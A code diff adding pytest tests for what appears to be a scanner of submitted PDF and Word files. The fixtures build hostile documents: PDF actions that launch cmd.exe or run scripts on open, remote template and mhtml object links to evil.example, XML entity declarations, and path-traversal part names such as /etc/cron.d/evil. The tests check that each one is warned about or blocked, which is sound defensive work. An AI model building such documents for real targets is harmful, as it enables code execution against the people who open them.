@@ -9,6 +9,7 @@ import pypdf
 import pytest
 from PIL import Image
 from pypdf.actions import JavaScript
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
 from tests.submissions.media.conftest import PAPER, facts_of, judge, judged
 from tests.submissions.media.papers import SLIDES, added, ole, word
@@ -21,6 +22,104 @@ def test_pdf_that_runs_a_script_warns(tmp_path):
     writer.add_open_action(JavaScript("app.alert(1)"))
     writer.write(tmp_path / "script.pdf")
     assert judged(tmp_path / "script.pdf", SLIDES) == [("macro", "warn")]
+
+
+LAUNCH = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
+SCRIPT = DictionaryObject(
+    {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.beep()")}
+)
+FETCH = DictionaryObject(
+    {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("http://a.example")}
+)
+TURN = DictionaryObject({NameObject("/S"): NameObject("/Named"), NameObject("/N"): NameObject("/NextPage")})
+
+
+def on(event, action):
+    return DictionaryObject({NameObject("/AA"): DictionaryObject({NameObject(event): action})})
+
+
+def button(action):
+    values = {"/Subtype": NameObject("/Link"), "/Rect": ArrayObject([NumberObject(0)] * 4), "/A": action}
+    mark = DictionaryObject({NameObject(name): value for name, value in values.items()})
+    return DictionaryObject({NameObject("/Annots"): ArrayObject([mark])})
+
+
+def then(action):
+    return DictionaryObject(TURN | {NameObject("/Next"): ArrayObject([action])})
+
+
+@pytest.mark.parametrize(
+    ("place", "change", "found"),
+    [
+        ("root", on("/WC", SCRIPT), True),
+        ("page", on("/O", SCRIPT), True),
+        ("page", on("/O", FETCH), True),
+        ("page", on("/O", then(LAUNCH)), True),
+        ("page", button(LAUNCH), True),
+        ("page", button(SCRIPT), True),
+        ("root", {NameObject("/OpenAction"): LAUNCH}, True),
+        ("root", {NameObject("/OpenAction"): FETCH}, True),
+        ("form", on("/K", SCRIPT), True),
+        ("page", button(FETCH), False),  # a link
+        ("page", on("/O", TURN), False),
+        ("root", {NameObject("/OpenAction"): TURN}, False),
+    ],
+)
+def test_pdf_that_starts_something_warns(tmp_path, place, change, found):
+    plain = tmp_path / "plain.pdf"
+    Image.effect_noise((100, 100), 50).save(plain, "PDF")
+    writer = pypdf.PdfWriter(plain)
+    if place == "form":
+        field = writer._add_object(DictionaryObject(change))
+        form = DictionaryObject({NameObject("/Fields"): ArrayObject([field])})
+        change = {NameObject("/AcroForm"): form}
+    target = writer.pages[0] if place == "page" else writer.root_object
+    target.update(change)
+    writer.write(tmp_path / "a.pdf")
+    assert judged(tmp_path / "a.pdf", SLIDES) == ([("macro", "warn")] if found else [])
+
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def with_relation(path, kind, target, mode="External"):
+    relation = f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    content = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation}'
+    return added(word(path), "word/_rels/settings.xml.rels", content + "</Relationships>")
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "verdict"),
+    [
+        ("attachedTemplate", "https://evil.example/a.dotm", [("macro", "block")]),
+        ("attachedTemplate", r"\\server\share\a.dotm", [("macro", "block")]),
+        ("attachedTemplate", "file://server/share/a.dotm", [("macro", "block")]),
+        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html", [("macro", "block")]),
+        ("frame", "http://evil.example/", [("macro", "block")]),
+        ("image", "http://evil.example/pixel.png", [("macro", "warn")]),
+        ("attachedTemplate", "file:///C:/Users/wang/Templates/Normal.dotm", []),
+        ("attachedTemplate", "Normal.dotm", []),
+        ("hyperlink", "https://www.fjzgh.org/", []),
+    ],
+)
+def test_what_a_document_loads_from_elsewhere_is_marked(tmp_path, kind, target, verdict):
+    assert judged(with_relation(tmp_path / "a.docx", kind, target), PAPER) == verdict
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+@pytest.mark.parametrize("padding", [0, 5_000, 80_000])
+def test_document_type_in_any_part_blocks(tmp_path, encoding, padding):
+    comment = f"<!--{'x' * padding}-->"
+    declared = f'<?xml version="1.0" encoding="{encoding}"?>{comment}<!DOCTYPE a [<!ENTITY b "bb">]><a/>'
+    path = added(word(tmp_path / "a.docx"), "customXml/item1.xml", declared.encode(encoding))
+    assert judged(path, PAPER) == [("macro", "block")]
+
+
+@pytest.mark.parametrize(
+    "name", ["../../evil.sh", "word/../../evil.sh", r"..\evil.bat", "/etc/cron.d/evil", "C:/evil.bat"]
+)
+def test_part_name_that_leads_out_of_its_folder_blocks(tmp_path, name):
+    assert judged(added(word(tmp_path / "a.docx"), name, b"x"), PAPER) == [("integrity", "block")]
 
 
 def test_macros_block_under_any_name(tmp_path):
